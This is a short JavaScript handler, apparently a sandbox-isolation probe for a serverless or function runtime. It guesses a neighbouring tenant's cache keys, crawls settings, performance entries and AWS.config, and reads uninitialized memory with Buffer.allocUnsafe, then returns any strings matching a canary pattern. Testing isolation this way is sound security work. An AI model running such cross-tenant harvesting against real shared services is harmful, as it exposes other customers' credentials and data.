const seen = [];
const known = new Set();
function see(value, depth = 0) {
  if (typeof value === 'string') seen.push(value);
  if ((typeof value !== 'object' && typeof value !== 'function') || value === null || known.has(value) || depth > 9 || seen.length > 30000) return;
  known.add(value);
  for (let at = value; at !== null && at !== Object.prototype && at !== Function.prototype; at = Object.getPrototypeOf(at)) {
    for (const key of Reflect.ownKeys(at)) {
      seen.push(String(key));
      let found;
      try { found = value[key]; } catch (error) { found = error?.message; }
      if (found instanceof Promise) found.catch(() => {});
      see(found, depth + 1);
    }
  }
}
const secret = /CANARY|neighbour/;

// By guessing the neighbour's keys, and by looking into whatever remembers.
async function onTrack(event, settings) {
  for (const key of ['secret', 'settings', 'neighbour', 'n1', '', '__proto__', 'constructor']) see(await cache.load(key, 1000, () => 'nothing').catch((e) => e.message));
  see(settings);
  see(performance.getEntries());
  see(AWS.config);
  see(Buffer.allocUnsafe(1e6).toString('latin1').replaceAll('\0', ''));
  console.log('%o', settings);
  try { structuredClone(cache); } catch (error) { see(error); }
  const names = Object.keys(settings);
  return [seen.filter((text) => secret.test(text)), names];
}
